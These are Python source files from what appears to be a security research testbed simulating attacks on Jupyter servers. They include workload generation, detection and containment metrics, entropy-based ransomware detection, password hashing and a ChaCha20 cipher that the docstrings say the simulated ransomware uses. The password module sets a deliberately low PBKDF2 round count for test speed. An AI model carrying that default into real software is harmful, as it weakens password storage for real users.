    ("GET", "/api/contents/", None),
    ("GET", "/api/contents/experiments", None),
    ("GET", "/api/status", None),
    ("GET", "/api/contents/experiments/run0.ipynb", None),
]


@dataclass
class WorkloadReport:
    cells_executed: int = 0
    rest_requests: int = 0
    errors: int = 0
    duration: float = 0.0


class ScientistWorkload:
    """One benign user session against a scenario."""

    def __init__(self, scenario: Scenario, *, username: str = "scientist",
                 seed_name: str = "workload", think_time: float = 8.0,
                 audited: bool = True):
        self.scenario = scenario
        self.username = username
        self.rng: DeterministicRNG = scenario.rng.child(f"{seed_name}:{username}")
        self.think_time = think_time
        self.audited = audited

    def run_session(self, *, cells: int = 10, rest_actions: int = 3) -> WorkloadReport:
        """Execute a full session: browse, start kernel, iterate cells."""
        report = WorkloadReport()
        start = self.scenario.clock.now()
        client = self.scenario.user_client(username=self.username)
        for _ in range(rest_actions):
            method, path, _ = self.rng.choice(BENIGN_REST_ACTIONS)
            try:
                client.request(method, path)
                report.rest_requests += 1
            except Exception:
                report.errors += 1
        if self.audited:
            self.scenario.audited_session(client)
        else:
            client.start_kernel()
            client.connect_channels()
        for _ in range(cells):
            template = self.rng.choice(BENIGN_CELL_TEMPLATES)
            code = template.format(i=self.rng.randint(10, 400))
            reply = client.execute(code, wait=60.0)
            if reply is None or reply.content.get("status") != "ok":
                report.errors += 1
            report.cells_executed += 1
            # Think time between cells: lognormal, like real interaction gaps.
            self.scenario.run(max(0.5, self.rng.lognormvariate(0, 0.6) * self.think_time))
        client.close()
        report.duration = self.scenario.clock.now() - start
        return report
