"""Benign scientist workloads.

False-positive rates are meaningless without realistic background
traffic.  :class:`ScientistWorkload` drives a
:class:`~repro.server.gateway.WebSocketKernelClient` through behaviour
mixes observed on science gateways: exploratory cell editing, data
staging, bursty compute, file browsing — each cell drawn from a
templated corpus with seeded randomness.
"""

from repro.workload.scientist import BENIGN_CELL_TEMPLATES, ScientistWorkload, WorkloadReport

__all__ = ["ScientistWorkload", "WorkloadReport", "BENIGN_CELL_TEMPLATES"]
