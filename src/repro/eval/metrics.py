"""Detection metrics over labeled corpora and campaign outcomes."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, Iterable, List, Optional, Sequence, Tuple

from repro.dataset.builder import LabeledRecord


def outcome_rates(outcomes: Sequence) -> Dict[str, float]:
    """Aggregate campaign outcomes into the rates every report shares.

    Accepts any sequence with ``detected``/``succeeded``/``aborted``
    boolean attributes (:class:`~repro.attacks.campaign.CampaignOutcome`
    and the topology-matrix cells both qualify).  Empty input yields the
    all-zero row rather than a division error, so sparse matrix subsets
    (an objective never generated for some topology) stay well-defined.
    """
    n = len(outcomes)
    if n == 0:
        return {"campaigns": 0, "detected": 0.0, "succeeded": 0.0, "aborted": 0.0}
    return {
        "campaigns": n,
        "detected": sum(1 for o in outcomes if o.detected) / n,
        "succeeded": sum(1 for o in outcomes if o.succeeded) / n,
        "aborted": sum(1 for o in outcomes if getattr(o, "aborted", False)) / n,
    }


def median(values: Sequence[float]) -> Optional[float]:
    """Plain median; ``None`` for an empty sequence (lead-time reports
    must distinguish "never contained" from "contained instantly")."""
    if not values:
        return None
    ordered = sorted(values)
    mid = len(ordered) // 2
    if len(ordered) % 2:
        return float(ordered[mid])
    return (ordered[mid - 1] + ordered[mid]) / 2.0


def containment_rates(outcomes: Sequence) -> Dict[str, object]:
    """:func:`outcome_rates` extended with the response subsystem's
    arms-race metrics.

    - ``contained`` — fraction of campaigns with at least one executed
      containment action.
    - ``post_detection_succeeded`` — among *detected* campaigns, the
      fraction where the attacker still won a stage started after the
      first detection (the rate a defender exists to push down);
      ``None`` when nothing was detected.
    - ``median_containment_leadtime`` — median detection→first-action
      delay in sim seconds; ``None`` when nothing was contained.

    Outcomes lacking the forensics attributes (hand-rolled stubs) count
    as uncontained, so the function stays usable on any outcome-shaped
    sequence.
    """
    rates: Dict[str, object] = dict(outcome_rates(outcomes))
    n = len(outcomes)
    if n == 0:
        rates.update({"contained": 0.0, "post_detection_succeeded": None,
                      "median_containment_leadtime": None,
                      "stages_prevented": 0})
        return rates
    contained = sum(1 for o in outcomes if getattr(o, "contained", False))
    post = [o.post_detection_success for o in outcomes
            if getattr(o, "post_detection_success", None) is not None]
    leadtimes = [o.containment_leadtime for o in outcomes
                 if getattr(o, "containment_leadtime", None) is not None]
    rates.update({
        "contained": contained / n,
        "post_detection_succeeded": (sum(post) / len(post)) if post else None,
        "median_containment_leadtime": median(leadtimes),
        "stages_prevented": sum(getattr(o, "stages_prevented", 0)
                                for o in outcomes),
    })
    return rates


# -- arms-race adaptation metrics (the adversary subsystem's vocabulary) ------

def reentry_gaps(evictions: Sequence[float],
                 entries: Sequence[float]) -> List[float]:
    """Eviction → next-entry gaps for *one* attacker's timeline.
    Multi-agent reports must compute gaps per agent and pool them —
    pooling raw timestamps would let one agent's entry 'recover'
    another agent's eviction."""
    gaps = []
    for evicted in sorted(evictions):
        later = [ts for ts in entries if ts > evicted]
        if later:
            gaps.append(min(later) - evicted)
    return gaps


def containment_holds(evictions: Sequence[float], entries: Sequence[float],
                      horizon: float) -> List[float]:
    """How long each containment of one attacker held: eviction until
    its next entry, censored at ``horizon`` when it held to the end."""
    holds = []
    for evicted in sorted(evictions):
        later = [ts for ts in entries if ts > evicted]
        holds.append((min(later) - evicted) if later
                     else max(0.0, horizon - evicted))
    return holds


def time_to_reentry(evictions: Sequence[float],
                    entries: Sequence[float]) -> Optional[float]:
    """Median seconds from each eviction to the attacker's next
    successful entry; ``None`` when no eviction was ever recovered from
    (the static-attacker case the adaptive engine exists to beat)."""
    return median(reentry_gaps(evictions, entries))


def containment_half_life(evictions: Sequence[float],
                          entries: Sequence[float],
                          horizon: float) -> Optional[float]:
    """Defender-side: median time a containment actually *held* —
    eviction until the attacker's next entry, censored at ``horizon``
    for containments that held to the end.  ``None`` with no evictions
    (nothing was ever contained)."""
    return median(containment_holds(evictions, entries, horizon))


def cost_per_exfiltrated_byte(cost: float, nbytes: int) -> Optional[float]:
    """Attacker economics: spend per byte of loot; ``None`` when
    nothing left (an infinitely expensive campaign, reported as
    undefined rather than a fake infinity)."""
    if nbytes <= 0:
        return None
    return cost / nbytes


def defense_coverage_decay(
        block_spans: Sequence[Tuple[float, Optional[float]]],
        horizon: float) -> Dict[str, float]:
    """How blocklist coverage of burned sources erodes over a run.

    ``block_spans`` are (blocked_at, unblocked_at-or-None) intervals.
    Returns ``peak`` (max concurrent blocks), ``final`` (blocks still
    standing at ``horizon``), and ``decay`` — the fraction of peak
    coverage that had lapsed by the end (0.0 = every block held,
    1.0 = the blocklist fully evaporated).  TTL-driven un-containment
    trades exactly this decay for a bounded blocklist.
    """
    if not block_spans:
        return {"peak": 0, "final": 0, "decay": 0.0}
    events = []
    for start, end in block_spans:
        events.append((start, 1))
        events.append((end if end is not None else horizon + 1.0, -1))
    events.sort()
    active = peak = 0
    for _, delta in events:
        active += delta
        peak = max(peak, active)
    final = sum(1 for start, end in block_spans
                if start <= horizon and (end is None or end > horizon))
    decay = (1.0 - final / peak) if peak else 0.0
    return {"peak": peak, "final": final, "decay": round(decay, 4)}


# -- traffic-analysis recon metrics (the traffic subsystem's vocabulary) ------

def shard_map_accuracy(predicted: Dict[str, str], truth: Dict[str, str],
                       label_map: Optional[Dict[str, str]] = None) -> float:
    """Fraction of ground-truth tenants the recon placed on the right
    shard.  ``label_map`` translates the attacker's own labels (door
    ordinals) into the defender's shard names before comparing; tenants
    the recon never classified count as wrong, and an empty truth map
    scores 0.0 (nothing was recoverable, so nothing was recovered)."""
    if not truth:
        return 0.0
    mapping = label_map or {}
    hits = 0
    for tenant, shard in truth.items():
        guess = predicted.get(tenant)
        if guess is not None and mapping.get(guess, guess) == shard:
            hits += 1
    return hits / len(truth)


def decoy_flagging(suspected: Sequence[str],
                   truth: Sequence[str]) -> Dict[str, float]:
    """Precision/recall of the recon's decoy verdicts against the
    world's actual decoy roster (both over tenant names)."""
    s, t = set(suspected), set(truth)
    tp = len(s & t)
    return {
        "suspected": len(s),
        "decoys": len(t),
        "precision": tp / len(s) if s else 0.0,
        "recall": tp / len(t) if t else 0.0,
    }


@dataclass
class ConfusionMatrix:
    tp: int = 0
    fp: int = 0
    tn: int = 0
    fn: int = 0

    def add(self, *, actual: bool, predicted: bool) -> None:
        if actual and predicted:
            self.tp += 1
        elif actual and not predicted:
            self.fn += 1
        elif not actual and predicted:
            self.fp += 1
        else:
            self.tn += 1

    @property
    def tpr(self) -> float:
        """Recall / detection rate."""
        denom = self.tp + self.fn
        return self.tp / denom if denom else 0.0

    @property
    def fpr(self) -> float:
        denom = self.fp + self.tn
        return self.fp / denom if denom else 0.0

    @property
    def precision(self) -> float:
        denom = self.tp + self.fp
        return self.tp / denom if denom else 0.0

    @property
    def f1(self) -> float:
        p, r = self.precision, self.tpr
        return 2 * p * r / (p + r) if (p + r) else 0.0

    def as_dict(self) -> Dict[str, float]:
        return {"tp": self.tp, "fp": self.fp, "tn": self.tn, "fn": self.fn,
                "tpr": round(self.tpr, 4), "fpr": round(self.fpr, 4),
                "precision": round(self.precision, 4), "f1": round(self.f1, 4)}


class DetectionEvaluator:
    """Scores detector output against corpus ground truth at the
    *principal* granularity: a principal (session username for kernel
    traffic, source IP otherwise) is 'detected' if any notice names it,
    'malicious' if ground truth marks it.

    ``exclude`` removes infrastructure identities (the server's own IP)
    that carry traffic for many principals and cannot meaningfully be
    labeled — attribution through shared infrastructure is exactly the
    gap the paper's kernel-auditing proposal closes.
    """

    @staticmethod
    def _identity(rec: LabeledRecord) -> str:
        username = str(rec.fields.get("username", ""))
        if rec.family == "jupyter" and username:
            return username
        return rec.src

    def evaluate_sources(self, records: Sequence[LabeledRecord],
                         *, exclude: Sequence[str] = ()) -> ConfusionMatrix:
        excluded = set(exclude)
        truth: Dict[str, bool] = {}
        flagged: set = set()
        for rec in records:
            if rec.family == "notice":
                if rec.src and rec.src not in excluded:
                    flagged.add(rec.src)
                continue
            identity = self._identity(rec)
            if identity and identity not in excluded:
                truth[identity] = truth.get(identity, False) or rec.label_malicious
        cm = ConfusionMatrix()
        for source, malicious in truth.items():
            cm.add(actual=malicious, predicted=source in flagged)
        return cm

    def per_attack_detection(self, records: Sequence[LabeledRecord]) -> Dict[str, bool]:
        """attack name -> did any notice implicate its source."""
        flagged = {r.src for r in records if r.family == "notice" and r.src}
        out: Dict[str, bool] = {}
        for rec in records:
            if rec.label_malicious and rec.label_attack:
                out.setdefault(rec.label_attack, False)
                if rec.src in flagged:
                    out[rec.label_attack] = True
        return out


def roc_sweep(scores_and_labels: Iterable[Tuple[float, bool]],
              thresholds: Sequence[float]) -> List[Dict[str, float]]:
    """(TPR, FPR) points for a scored detector across thresholds."""
    pairs = list(scores_and_labels)
    points = []
    for th in thresholds:
        cm = ConfusionMatrix()
        for score, actual in pairs:
            cm.add(actual=actual, predicted=score >= th)
        points.append({"threshold": th, "tpr": cm.tpr, "fpr": cm.fpr, "f1": cm.f1})
    return points
