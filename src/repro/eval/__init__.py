"""Evaluation: detection metrics and experiment harness utilities."""

from repro.eval.metrics import (
    ConfusionMatrix,
    DetectionEvaluator,
    containment_rates,
    decoy_flagging,
    median,
    outcome_rates,
    roc_sweep,
    shard_map_accuracy,
)

__all__ = ["ConfusionMatrix", "DetectionEvaluator", "containment_rates",
           "decoy_flagging", "median", "outcome_rates", "roc_sweep",
           "shard_map_accuracy"]
