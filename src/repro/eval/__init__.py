"""Evaluation: detection metrics and experiment harness utilities."""

from repro.eval.metrics import (
    ConfusionMatrix,
    DetectionEvaluator,
    containment_rates,
    median,
    outcome_rates,
    roc_sweep,
)

__all__ = ["ConfusionMatrix", "DetectionEvaluator", "containment_rates",
           "median", "outcome_rates", "roc_sweep"]
