"""Evaluation: detection metrics and experiment harness utilities."""

from repro.eval.metrics import ConfusionMatrix, DetectionEvaluator, roc_sweep

__all__ = ["ConfusionMatrix", "DetectionEvaluator", "roc_sweep"]
