"""Evaluation: detection metrics and experiment harness utilities."""

from repro.eval.metrics import (
    ConfusionMatrix,
    DetectionEvaluator,
    outcome_rates,
    roc_sweep,
)

__all__ = ["ConfusionMatrix", "DetectionEvaluator", "outcome_rates", "roc_sweep"]
