"""Deterministic randomness for simulations.

Every stochastic component (workload generator, attacker jitter, network
latency) draws from its own named child of one root seed, so adding a new
consumer never perturbs the draws of existing ones — the classic
"independent streams" idiom from parallel HPC random-number practice.
"""

from __future__ import annotations

import hashlib
import random
from typing import Iterator, Sequence, TypeVar

T = TypeVar("T")


class DeterministicRNG:
    """A seeded RNG with cheap, collision-resistant named substreams."""

    def __init__(self, seed: int | str = 0):
        if isinstance(seed, str):
            seed = int.from_bytes(hashlib.sha256(seed.encode()).digest()[:8], "big")
        self.seed = int(seed)
        self._rng = random.Random(self.seed)

    def child(self, name: str) -> "DeterministicRNG":
        """Derive an independent substream keyed by ``name``."""
        digest = hashlib.sha256(f"{self.seed}:{name}".encode()).digest()
        return DeterministicRNG(int.from_bytes(digest[:8], "big"))

    # -- thin delegation over random.Random -------------------------------
    def random(self) -> float:
        return self._rng.random()

    def uniform(self, a: float, b: float) -> float:
        return self._rng.uniform(a, b)

    def randint(self, a: int, b: int) -> int:
        return self._rng.randint(a, b)

    def choice(self, seq: Sequence[T]) -> T:
        return self._rng.choice(seq)

    def choices(self, seq: Sequence[T], weights: Sequence[float] | None = None, k: int = 1) -> list[T]:
        return self._rng.choices(seq, weights=weights, k=k)

    def sample(self, seq: Sequence[T], k: int) -> list[T]:
        return self._rng.sample(seq, k)

    def shuffle(self, seq: list) -> None:
        self._rng.shuffle(seq)

    def expovariate(self, lambd: float) -> float:
        return self._rng.expovariate(lambd)

    def gauss(self, mu: float, sigma: float) -> float:
        return self._rng.gauss(mu, sigma)

    def lognormvariate(self, mu: float, sigma: float) -> float:
        return self._rng.lognormvariate(mu, sigma)

    def randbytes(self, n: int) -> bytes:
        return self._rng.randbytes(n)

    def poisson_times(self, rate: float, horizon: float, start: float = 0.0) -> Iterator[float]:
        """Yield event times of a Poisson process with ``rate`` events/sec."""
        if rate <= 0:
            return
        t = start
        while True:
            t += self._rng.expovariate(rate)
            if t > horizon:
                return
            yield t
