"""Byte-entropy utilities.

Shannon entropy over byte histograms is the primary signal the monitor
uses to flag ransomware: ChaCha20-encrypted file bodies sit near
8 bits/byte while notebooks, CSVs and source code sit well below 6.
The chi-square uniformity statistic is a second, sharper discriminator
used by the anomaly engine's "encrypted content" heuristic.

Hot paths are vectorized with numpy when it is available (it is in this
environment); a pure-Python fallback keeps the module dependency-free.
"""

from __future__ import annotations

import math
from collections import Counter
from typing import Sequence

try:  # numpy is present in the target environment; fall back gracefully.
    import numpy as _np
except ImportError:  # pragma: no cover
    _np = None

#: Precomputed c·log2(c) for counts up to 64 KiB, so the entropy hot path
#: (one call per decoded WebSocket message) is a histogram, a table
#: gather, and a sum — no per-call log vectors.  H = log2(n) − Σc·log2(c)/n.
_CLOG2_LIMIT = 65536
_clog2_table = None


def _clog2(counts) -> float:
    global _clog2_table
    if _clog2_table is None:
        c = _np.arange(_CLOG2_LIMIT + 1, dtype=_np.float64)
        c[0] = 1.0  # avoid log2(0); 0·log2(0) := 0
        _clog2_table = _np.arange(_CLOG2_LIMIT + 1, dtype=_np.float64) * _np.log2(c)
    return float(_clog2_table.take(counts).sum())


def byte_histogram(data: bytes) -> Sequence[int]:
    """Return a 256-bin count histogram of ``data``."""
    if _np is not None:
        arr = _np.frombuffer(data, dtype=_np.uint8)
        return _np.bincount(arr, minlength=256)
    counts = [0] * 256
    for b in data:
        counts[b] += 1
    return counts


def shannon_entropy(data: bytes) -> float:
    """Shannon entropy of ``data`` in bits per byte (0.0 for empty input).

    >>> shannon_entropy(b"aaaa")
    0.0
    >>> 7.9 < shannon_entropy(bytes(range(256)) * 16) <= 8.0
    True
    """
    n = len(data)
    if n == 0:
        return 0.0
    if _np is not None:
        if n <= _CLOG2_LIMIT:
            # No minlength: the table gather only needs occupied bins.
            counts = _np.bincount(_np.frombuffer(data, dtype=_np.uint8))
            # max() clamps the ~1e-15 negative residue of the identity
            # for single-symbol inputs.
            return max(0.0, math.log2(n) - _clog2(counts) / n)
        counts = _np.bincount(_np.frombuffer(data, dtype=_np.uint8), minlength=256)
        nz = counts[counts > 0].astype(_np.float64)
        p = nz / n
        return float(-(p * _np.log2(p)).sum())
    counts = Counter(data)
    ent = 0.0
    for c in counts.values():
        p = c / n
        ent -= p * math.log2(p)
    return ent


def chi_square_uniform(data: bytes) -> float:
    """Chi-square statistic of ``data`` against the uniform byte law.

    Encrypted/compressed bytes give values near the degrees of freedom
    (255); structured text gives values orders of magnitude larger.
    Returns ``inf`` for empty input so thresholds never treat "no data"
    as random data.
    """
    n = len(data)
    if n == 0:
        return math.inf
    expected = n / 256.0
    hist = byte_histogram(data)
    if _np is not None:
        h = _np.asarray(hist, dtype=_np.float64)
        return float(((h - expected) ** 2 / expected).sum())
    return sum((c - expected) ** 2 / expected for c in hist)


def looks_encrypted(data: bytes, *, entropy_floor: float = 7.2, min_len: int = 64) -> bool:
    """Cheap decision helper combining entropy with a length guard.

    Short buffers have noisy entropy estimates, so anything below
    ``min_len`` bytes is never classified as encrypted.
    """
    if len(data) < min_len:
        return False
    return shannon_entropy(data) >= entropy_floor
