"""Simulation and wall clocks.

All time in the simulated world flows through a :class:`Clock` so that an
entire experiment — server, kernels, attackers, monitor — shares one
notion of "now" and every run is bit-for-bit reproducible.  The monitor
and dataset layers stamp records with ``clock.now()``; benchmarks that
need real elapsed time use :class:`WallClock`.
"""

from __future__ import annotations

import time
from abc import ABC, abstractmethod


class Clock(ABC):
    """Abstract time source measured in fractional seconds."""

    @abstractmethod
    def now(self) -> float:
        """Return the current time in seconds."""

    def isoformat(self) -> str:
        """Render ``now()`` as a fixed-epoch ISO-8601 timestamp.

        The simulated epoch is 2024-01-01T00:00:00Z, matching the
        collection window of the paper's NCSA testbed logs.
        """
        epoch = 1704067200.0  # 2024-01-01T00:00:00Z
        t = epoch + self.now()
        return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(t)) + f".{int((t % 1) * 1e6):06d}Z"


class SimClock(Clock):
    """A manually advanced clock for deterministic simulation.

    Time never moves on its own: the event loop (or a test) calls
    :meth:`advance` or :meth:`advance_to`.  Attempting to move backwards
    raises ``ValueError`` — the discrete-event queue relies on
    monotonicity.
    """

    def __init__(self, start: float = 0.0):
        self._now = float(start)

    def now(self) -> float:
        return self._now

    def advance(self, dt: float) -> float:
        """Move time forward by ``dt`` seconds and return the new time."""
        if dt < 0:
            raise ValueError(f"cannot advance clock by negative dt={dt}")
        self._now += dt
        return self._now

    def advance_to(self, t: float) -> float:
        """Jump to absolute time ``t`` (must not be in the past)."""
        if t < self._now:
            raise ValueError(f"cannot move clock backwards: {t} < {self._now}")
        self._now = float(t)
        return self._now

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"SimClock(now={self._now:.6f})"


class WallClock(Clock):
    """Real time, for benchmark harnesses measuring actual throughput."""

    def __init__(self):
        self._t0 = time.perf_counter()

    def now(self) -> float:
        return time.perf_counter() - self._t0
