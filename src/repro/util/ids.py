"""Identifier and token generation.

Simulation components need two flavours of identifier: reproducible ones
(drawn from a seeded RNG so a whole experiment replays identically) and
cryptographically strong ones (for the auth layer, where token *entropy*
is itself the subject of a misconfiguration check).
"""

from __future__ import annotations

import random
import secrets

_ALPHABET = "0123456789abcdef"

# Module-level RNG used only for deterministic IDs.  Experiments that need
# full reproducibility call seed_ids() first.
_id_rng = random.Random(0xA11CE)
_counter = 0


def seed_ids(seed: int) -> None:
    """Re-seed the deterministic ID stream (used by experiment runners)."""
    global _id_rng, _counter
    _id_rng = random.Random(seed)
    _counter = 0


def new_id(prefix: str = "") -> str:
    """Return a deterministic 32-hex-char identifier, optionally prefixed.

    The stream depends only on the seed and call order, which keeps log
    files diffable across runs.
    """
    global _counter
    _counter += 1
    body = "".join(_id_rng.choice(_ALPHABET) for _ in range(32))
    return f"{prefix}{body}" if prefix else body


def short_id(prefix: str = "") -> str:
    """Return an 8-hex-char deterministic identifier."""
    return (prefix + new_id())[: len(prefix) + 8]


class IdSequence:
    """A private, stream-isolated id generator: ``prefix`` + 8-hex counter.

    Consumers that must not perturb the shared ``new_id`` stream (the
    telemetry tracer, most importantly — enabling tracing must not change
    which ids the simulated traffic itself gets) hold their own sequence.
    Ids are deterministic per instance: same call order, same ids.
    """

    __slots__ = ("prefix", "_n")

    def __init__(self, prefix: str = ""):
        self.prefix = prefix
        self._n = 0

    def next(self) -> str:
        self._n += 1
        return f"{self.prefix}{self._n:08x}"


def new_token(nbytes: int = 24) -> str:
    """Return a cryptographically strong URL-safe token (real secrets).

    This mirrors ``jupyter_server``'s token generation; the misconfig
    scanner measures the entropy of tokens produced here versus weak
    operator-chosen ones.
    """
    return secrets.token_urlsafe(nbytes)
