"""Common exception hierarchy.

Every error raised by the library derives from :class:`ReproError`, so a
caller embedding the simulator can catch one type at the boundary.  The
subclasses mirror the architectural layers: wire-protocol parsing
(:class:`ProtocolError`), authentication (:class:`AuthError`), document
validation (:class:`ValidationError`), kernel resource metering
(:class:`ResourceLimitError`), and audit-policy enforcement
(:class:`SecurityViolation`).
"""

from __future__ import annotations


class ReproError(Exception):
    """Base class for all library errors."""


class ProtocolError(ReproError):
    """A wire-level protocol violation (bad frame, bad greeting, bad HTTP)."""


class AuthError(ReproError):
    """Authentication or authorization failure."""


class ValidationError(ReproError):
    """A document or message failed schema validation."""


class ResourceLimitError(ReproError):
    """A kernel execution exceeded its configured resource budget."""

    def __init__(self, message: str, *, resource: str = "", limit: float = 0.0, used: float = 0.0):
        super().__init__(message)
        self.resource = resource
        self.limit = limit
        self.used = used


class SecurityViolation(ReproError):
    """An audit policy denied an operation."""

    def __init__(self, message: str, *, policy: str = "", detail: str = ""):
        super().__init__(message)
        self.policy = policy
        self.detail = detail
