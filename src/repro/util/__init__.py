"""Shared low-level utilities for the jupyter-armor reproduction.

This package holds the pieces every other subsystem leans on: a
deterministic simulation clock, seeded randomness helpers, Shannon
entropy (the workhorse of the ransomware detector), identifier
generation, and the common error hierarchy.
"""

from repro.util.clock import SimClock, WallClock, Clock
from repro.util.entropy import shannon_entropy, byte_histogram, chi_square_uniform
from repro.util.errors import (
    ReproError,
    ProtocolError,
    AuthError,
    ValidationError,
    ResourceLimitError,
    SecurityViolation,
)
from repro.util.ids import new_id, new_token, short_id
from repro.util.rng import DeterministicRNG

__all__ = [
    "SimClock",
    "WallClock",
    "Clock",
    "shannon_entropy",
    "byte_histogram",
    "chi_square_uniform",
    "ReproError",
    "ProtocolError",
    "AuthError",
    "ValidationError",
    "ResourceLimitError",
    "SecurityViolation",
    "new_id",
    "new_token",
    "short_id",
    "DeterministicRNG",
]
