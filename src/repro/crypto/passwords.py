"""Password hashing and token-strength estimation.

Mirrors the shape of ``jupyter_server.auth.passwd``: an algorithm-tagged,
salted hash string ``pbkdf2-sha256:<rounds>:<salt>:<hex>``.  The
misconfiguration scanner parses these strings to flag weak round counts,
and :func:`token_entropy_bits` scores access tokens the same way the
scanner's WEAK_TOKEN check does.
"""

from __future__ import annotations

import hashlib
import hmac
import math
import secrets
from collections import Counter

DEFAULT_ROUNDS = 20_000  # kept modest so test suites stay fast; real deployments use >=600k


def hash_password(password: str, *, rounds: int = DEFAULT_ROUNDS, salt: bytes | None = None) -> str:
    """Hash ``password`` into the tagged PBKDF2 format."""
    if salt is None:
        salt = secrets.token_bytes(16)
    dk = hashlib.pbkdf2_hmac("sha256", password.encode("utf-8"), salt, rounds)
    return f"pbkdf2-sha256:{rounds}:{salt.hex()}:{dk.hex()}"


def verify_password(password: str, stored: str) -> bool:
    """Check ``password`` against a stored tagged hash; False on any malformation."""
    try:
        algo, rounds_s, salt_hex, digest_hex = stored.split(":")
        if algo != "pbkdf2-sha256":
            return False
        rounds = int(rounds_s)
        salt = bytes.fromhex(salt_hex)
        expected = bytes.fromhex(digest_hex)
    except (ValueError, AttributeError):
        return False
    dk = hashlib.pbkdf2_hmac("sha256", password.encode("utf-8"), salt, rounds)
    return hmac.compare_digest(dk, expected)


def parse_hash_rounds(stored: str) -> int | None:
    """Extract the PBKDF2 round count, or None if the string is not ours."""
    try:
        algo, rounds_s, _, _ = stored.split(":")
        if algo != "pbkdf2-sha256":
            return None
        return int(rounds_s)
    except ValueError:
        return None


def token_entropy_bits(token: str) -> float:
    """Estimate total entropy of ``token`` in bits.

    Uses the empirical per-character Shannon entropy times length — a
    deliberately conservative estimator: "hunter2" scores ~8 bits while a
    ``secrets.token_urlsafe(24)`` scores well above 128.  The scanner
    flags anything under 64 bits.
    """
    if not token:
        return 0.0
    counts = Counter(token)
    n = len(token)
    per_char = -sum((c / n) * math.log2(c / n) for c in counts.values())
    # Degenerate single-character tokens still carry log2(len) positional info at most.
    if per_char == 0.0:
        return math.log2(n) if n > 1 else 0.0
    return per_char * n
