"""Cryptographic substrate.

Implements, from scratch where the paper's threat model requires real
byte-level behaviour:

- :mod:`repro.crypto.chacha20` — RFC 7539 ChaCha20 stream cipher.  The
  ransomware attack uses it to encrypt victim files, which is what gives
  the monitor a genuine high-entropy signal to detect.
- :mod:`repro.crypto.signing` — message signers behind one interface:
  HMAC-SHA256 (Jupyter's default), HMAC-SHA3, and the `NullSigner` that
  models the common ``Session.key = b""`` misconfiguration.
- :mod:`repro.crypto.pq` — hash-based post-quantum signatures (Lamport
  one-time, Winternitz WOTS, and a Merkle-tree many-time scheme), the
  canonical quantum-resistant replacement the paper's §IV.B calls for.
- :mod:`repro.crypto.passwords` — salted PBKDF2 password hashing matching
  the shape of ``jupyter_server.auth.passwd``.
- :mod:`repro.crypto.hndl` — the harvest-now-decrypt-later exposure model.
"""

from repro.crypto.chacha20 import ChaCha20, chacha20_decrypt, chacha20_encrypt
from repro.crypto.signing import (
    HMACSigner,
    HMACSHA3Signer,
    NullSigner,
    Signer,
    get_signer,
    register_signer,
    available_schemes,
)
from repro.crypto.passwords import hash_password, verify_password, token_entropy_bits
from repro.crypto.pq import LamportOTS, WOTS, MerkleSigner
from repro.crypto.hndl import HNDLModel, TrafficRecord

__all__ = [
    "ChaCha20",
    "chacha20_encrypt",
    "chacha20_decrypt",
    "Signer",
    "HMACSigner",
    "HMACSHA3Signer",
    "NullSigner",
    "get_signer",
    "register_signer",
    "available_schemes",
    "hash_password",
    "verify_password",
    "token_entropy_bits",
    "LamportOTS",
    "WOTS",
    "MerkleSigner",
    "HNDLModel",
    "TrafficRecord",
]
