"""ChaCha20 stream cipher (RFC 7539), pure Python.

The ransomware attack in :mod:`repro.attacks.ransomware` encrypts victim
files with this cipher.  Using a real cipher (rather than e.g. XOR with a
constant) matters for the reproduction: the entropy-based ransomware
detector must face genuinely uniform ciphertext, exactly as it would
against Conti/LockBit-style payloads.

The implementation follows RFC 7539 §2.3/§2.4 (the block function and the
little-endian serialization) and is validated against the RFC test
vectors in ``tests/test_crypto_chacha20.py``.
"""

from __future__ import annotations

import struct

_MASK = 0xFFFFFFFF


def _rotl32(x: int, n: int) -> int:
    return ((x << n) & _MASK) | (x >> (32 - n))


def _quarter_round(state: list[int], a: int, b: int, c: int, d: int) -> None:
    state[a] = (state[a] + state[b]) & _MASK
    state[d] = _rotl32(state[d] ^ state[a], 16)
    state[c] = (state[c] + state[d]) & _MASK
    state[b] = _rotl32(state[b] ^ state[c], 12)
    state[a] = (state[a] + state[b]) & _MASK
    state[d] = _rotl32(state[d] ^ state[a], 8)
    state[c] = (state[c] + state[d]) & _MASK
    state[b] = _rotl32(state[b] ^ state[c], 7)


_CONSTANTS = (0x61707865, 0x3320646E, 0x79622D32, 0x6B206574)  # "expand 32-byte k"


def chacha20_block(key: bytes, counter: int, nonce: bytes) -> bytes:
    """Return the 64-byte keystream block for ``(key, counter, nonce)``."""
    if len(key) != 32:
        raise ValueError("ChaCha20 key must be 32 bytes")
    if len(nonce) != 12:
        raise ValueError("ChaCha20 nonce must be 12 bytes")
    state = list(_CONSTANTS)
    state += list(struct.unpack("<8L", key))
    state.append(counter & _MASK)
    state += list(struct.unpack("<3L", nonce))
    working = state.copy()
    for _ in range(10):  # 20 rounds = 10 column+diagonal double-rounds
        _quarter_round(working, 0, 4, 8, 12)
        _quarter_round(working, 1, 5, 9, 13)
        _quarter_round(working, 2, 6, 10, 14)
        _quarter_round(working, 3, 7, 11, 15)
        _quarter_round(working, 0, 5, 10, 15)
        _quarter_round(working, 1, 6, 11, 12)
        _quarter_round(working, 2, 7, 8, 13)
        _quarter_round(working, 3, 4, 9, 14)
    out = [(working[i] + state[i]) & _MASK for i in range(16)]
    return struct.pack("<16L", *out)


class ChaCha20:
    """Streaming ChaCha20 encryptor/decryptor.

    The object keeps the block counter, so successive :meth:`update`
    calls encrypt a long stream in chunks — the ransomware attack uses
    this to encrypt files larger than one block without buffering.
    """

    def __init__(self, key: bytes, nonce: bytes, counter: int = 1):
        if len(key) != 32:
            raise ValueError("ChaCha20 key must be 32 bytes")
        if len(nonce) != 12:
            raise ValueError("ChaCha20 nonce must be 12 bytes")
        self.key = key
        self.nonce = nonce
        self._counter = counter
        self._leftover = b""

    def update(self, data: bytes) -> bytes:
        out = bytearray()
        i = 0
        # Consume keystream left over from the previous partial block.
        if self._leftover:
            take = min(len(self._leftover), len(data))
            out += bytes(a ^ b for a, b in zip(data[:take], self._leftover[:take]))
            self._leftover = self._leftover[take:]
            i = take
        while i < len(data):
            block = chacha20_block(self.key, self._counter, self.nonce)
            self._counter += 1
            chunk = data[i : i + 64]
            out += bytes(a ^ b for a, b in zip(chunk, block))
            if len(chunk) < 64:
                self._leftover = block[len(chunk) :]
            i += 64
        return bytes(out)


